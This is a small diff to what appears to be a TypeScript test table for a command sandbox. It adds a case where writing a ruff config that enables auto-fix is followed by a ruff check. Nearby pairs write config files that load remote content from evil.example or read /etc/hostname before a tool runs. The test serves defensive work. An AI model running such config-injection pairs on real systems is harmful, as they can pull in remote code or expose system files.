@@ -109,6 +109,7 @@ const PAIRS: readonly (readonly [first: string, second: string, end: End])[] = [
   ["echo 'resources: [https://evil.example/x]' > kustomization.yaml", "kustomize build .", "confined"],
   ["echo 'import \"https://evil.example/x.ts\"' > a.ts", "deno check a.ts", "confined"],
   ["printf 'fix = true' > ruff.toml", "ruff check .", "confined"],
+  ["printf '[tool.ruff]\\nfix = true' > src/pyproject.toml", "ruff check .", "confined"],
   ["printf '[codespell]\\nwrite-changes =\\n' > .codespellrc", "codespell .", "confined"],
   ["printf 'extends: /etc/hostname' > .yamllint", "yamllint a.json", "confined"],
   ["echo 'import \"/etc/hostname\"' > justfile", "just --list", "confined"],
